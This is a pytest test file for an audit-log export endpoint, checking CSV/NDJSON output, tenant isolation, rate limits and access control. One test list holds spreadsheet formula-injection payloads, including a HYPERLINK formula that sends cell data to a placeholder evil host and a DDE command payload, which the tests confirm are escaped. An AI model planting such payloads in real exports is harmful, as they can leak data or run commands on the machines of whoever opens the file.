"""GET /audit-logs/export/: the trail as CSV or NDJSON, streamed; and what somebody might try with it."""

from __future__ import annotations

import csv
import io
import json
from typing import Any

import pytest
from django.test import Client

from audit.exports.slots import AT_ONCE
from tests.acts import rows, statements_of
from tests.cast import Answer, Api, Cast, api_of

EXPORT = "audit-logs/export/"
EXPORTED = "SELECT actor_label, changes FROM audit_logs WHERE action = 'audit_log.exported' ORDER BY created_at"


def as_csv(answer: Answer) -> list[dict[str, str]]:
    assert (answer.status, answer.headers["Content-Type"]) == (200, "text/csv; charset=utf-8")
    return list(csv.DictReader(io.StringIO(answer.body.decode(), newline="")))


def as_ndjson(answer: Answer) -> list[dict[str, Any]]:
    assert (answer.status, answer.headers["Content-Type"]) == (200, "application/x-ndjson")
    return [json.loads(line) for line in answer.body.decode().splitlines()]


def streaming(api: Api, path: str = EXPORT) -> Any:
    """Ask for an export and read nothing of it yet."""
    client = Client(headers={"Host": api.host, "Authorization": f"Bearer {api.access}"})
    return client.get(f"/api/v1/{path}")


def fill(acme: Cast, count: int) -> None:
    rows(
        "INSERT INTO audit_logs (actor_type, action, resource_type, resource_id, created_at)"
        " SELECT 'x', 'a.b', 'thing', n::text, timestamptz '2026-01-01' + n / 3 * interval '1 second'"
        " FROM generate_series(1, %(count)s::int) AS n",
        acme,
        count=count,
    )


def test_ndjson_has_what_the_list_has(alice: Api) -> None:
    alice.get("audit-logs/")  # is an entry, once in a while
    listed = alice.get("audit-logs/?page_size=200").body["results"]
    exported = as_ndjson(alice.get(EXPORT + "?format=ndjson"))
    assert (len(listed) > 3, exported[1:], exported[0]["action"]) == (True, listed, "audit_log.exported")


def test_csv_has_the_same_entries_a_row_each(acme: Cast, alice: Api) -> None:
    listed = alice.get("audit-logs/?action=user.created").body["results"]
    exported = as_csv(alice.get(EXPORT + "?format=csv&action=user.created"))
    assert [(row["id"], row["created_at"], row["actor_label"], json.loads(row["changes"])) for row in exported] == [
        (each["id"], each["created_at"], each["actor"]["label"], each["changes"]) for each in listed
    ]
    assert csv.DictReader(io.StringIO(alice.get(EXPORT).body.decode())).fieldnames == list(exported[0])


def test_every_entry_is_in_it_once_whatever_the_batches_are(acme: Cast, alice: Api) -> None:
    """Three entries have each moment, so batches end between entries of one."""
    fill(acme, 1_234)
    exported = as_ndjson(alice.get(EXPORT + "?format=ndjson&resource_type=thing"))
    asked = "SELECT id::text FROM audit_logs WHERE resource_type = 'thing' ORDER BY created_at DESC, id DESC"
    assert [each["id"] for each in exported] == [key for (key,) in rows(asked, acme)]


def test_an_export_is_an_entry_with_its_filters(acme: Cast, alice: Api) -> None:
    as_csv(alice.get(EXPORT + "?action=user.created&from=2026-01-01T00:00:00Z"))
    filters = {"action": "user.created", "from": "2026-01-01T00:00:00Z"}
    assert rows(EXPORTED, acme) == [("alice@acme.example", {"format": "csv", "filters": filters})]


@pytest.mark.parametrize("written_as", ["csv", "ndjson"])
def test_nothing_of_another_organization_is_in_it(acme: Cast, alice: Api, gina: Api, written_as: str) -> None:
    theirs = gina.get(f"{EXPORT}?format={written_as}").body
    ours = alice.get(f"{EXPORT}?format={written_as}").body
    assert (b"alice@acme.example" in ours, b"alice@acme.example" in theirs) == (True, False)
    assert (b"gina@globex.example" in theirs, b"gina@globex.example" in ours) == (True, False)


def test_each_part_of_two_exports_that_run_at_once_is_of_its_own_organization(alice: Api, gina: Api) -> None:
    """The parts are made after both requests are over, in turn, in one thread."""
    path = EXPORT + "?format=ndjson"
    ours, theirs = streaming(alice, path), streaming(gina, path)
    parts = [b"".join(pair) for pair in zip(ours.streaming_content, theirs.streaming_content, strict=False)]
    assert len(parts) == 2
    both = [json.loads(line)["organization_id"] for line in parts[1].splitlines()]
    organizations = [api.get("organization/").body["id"] for api in (alice, gina)]
    assert (sorted(set(both)), both) == (sorted(organizations), sorted(both, key=organizations.index))


def leave_evil(acme: Cast, text: str) -> None:
    """Leave an entry with a text in each column that somebody outside may fill."""
    rows("INSERT INTO audit_logs (actor_type, action, resource_type) VALUES ('x', 'a.b', 'evil')", acme)
    texts = "actor_label = %(it)s, resource_label = %(it)s, reason = %(it)s, user_agent = %(it)s"
    rows(f"UPDATE audit_logs SET {texts} WHERE resource_type = 'evil'", acme, it=text)  # noqa: S608


FORMULAS = (
    "=1+1",
    "+1",
    "-1",
    "@SUM(A1)",
    "\t=1",
    "\r=1",
    "\n=1",
    "  =1",
    '=HYPERLINK("http://evil.example?"&A1,"x")',
    "=cmd|' /C calc'!A0",
    "\uff1d1",
)


@pytest.mark.parametrize("formula", FORMULAS, ids=ascii)
def test_a_cell_is_never_a_formula(acme: Cast, alice: Api, formula: str) -> None:
    leave_evil(acme, formula)
    (row,) = as_csv(alice.get(EXPORT + "?resource_type=evil"))
    shown = {row[column] for column in ("actor_label", "resource_label", "reason", "user_agent")}
    assert shown == {f"'{formula}"}
    (kept,) = as_ndjson(alice.get(EXPORT + "?format=ndjson&resource_type=evil"))
    assert kept["reason"] == formula


def test_a_line_break_or_a_quote_in_a_value_makes_no_row_or_cell_more(acme: Cast, alice: Api) -> None:
    hostile = 'a"\r\n"x","=1","y'
    leave_evil(acme, hostile)
    (row,) = as_csv(alice.get(EXPORT + "?resource_type=evil"))
    assert row["reason"] == hostile
    assert len(as_ndjson(alice.get(EXPORT + "?format=ndjson&resource_type=evil"))) == 1


@pytest.mark.parametrize(
    ("query", "field"),
    [("?format=xlsx", "format"), ("?from=yesterday", "from"), ("?actor=1", "actor")],
)
def test_what_can_not_be_read_exports_nothing(acme: Cast, alice: Api, query: str, field: str) -> None:
    answer = alice.get(EXPORT + query)
    assert (answer.status, answer.body["errors"][0]["field"]) == (400, field)
    assert rows(EXPORTED, acme) == []


def test_so_many_at_once_and_no_more_in_one_organization(acme: Cast, alice: Api, gina: Api) -> None:
    running = [streaming(alice) for _ in range(AT_ONCE)]
    refused = alice.get(EXPORT)
    assert (refused.status, refused.body["code"], refused.headers["Retry-After"]) == (429, "rate_limited", "30")
    assert len(rows(EXPORTED, acme)) == AT_ONCE, "who is refused exported nothing"
    assert gina.get(EXPORT).status == 200, "another organization has its own"
    running.pop().close()  # whose client went away before the first part
    assert alice.get(EXPORT).status == 200
    running.pop().close()


def test_a_client_that_leaves_in_the_middle_holds_nothing(acme: Cast, alice: Api) -> None:
    fill(acme, 1_100)
    for _ in range(AT_ONCE + 1):
        answer = streaming(alice, EXPORT + "?format=ndjson&resource_type=thing")
        parts = iter(answer.streaming_content)
        assert (next(parts), len(next(parts).splitlines())) == (b"", 500)
        idle = "SELECT count(*) FROM pg_stat_activity WHERE usename = %(role)s AND state LIKE '%%transaction%%'"
        assert rows(idle, role=acme.organization.schema_name) == [(0,)], "no transaction is open while it is sent"
        answer.close()
    assert as_csv(alice.get(EXPORT + "?resource_type=nothing")) == []


def test_a_fault_in_the_middle_gives_the_slot_back(acme: Cast, alice: Api) -> None:
    for _ in range(AT_ONCE + 1):
        answer = streaming(alice)
        parts = iter(answer.streaming_content)
        next(parts)
        rows("ALTER TABLE audit_logs RENAME TO audit_logs_away", acme)
        try:
            with pytest.raises(Exception, match="audit_logs"):
                next(parts)
        finally:
            rows("ALTER TABLE audit_logs_away RENAME TO audit_logs", acme)
    assert alice.get(EXPORT).status == 200


def test_only_an_admin_exports(acme: Cast, bob: Api, vera: Api, anonymous: Api) -> None:
    assert [each.get(EXPORT).status for each in (bob, vera, anonymous, api_of(acme, "alice"))] == [403, 403, 401, 200]
    assert len(rows(EXPORTED, acme)) == 1


def test_an_export_costs_the_same_statements_for_one_entry_and_for_three(acme: Cast, alice: Api) -> None:
    fill(acme, 3)
    assert alice.get(EXPORT).status == 200  # the first call of a session notes its use
    costs = [
        len(statements_of(lambda query=query: alice.get(f"{EXPORT}?resource_type=thing{query}")))  # type: ignore[misc]
        for query in ("&resource_id=1", "")
    ]
    assert costs == [3, 3]


@pytest.mark.parametrize("query", ["action=%00", "nobody_knows=%00", "q=%ED%A0%BD", "%00=x", "action=" + "x" * 5_000])
def test_a_hostile_filter_is_no_fault_of_ours(alice: Api, query: str) -> None:
    assert alice.get(f"audit-logs/export/?format=ndjson&{query}").status in (200, 400)
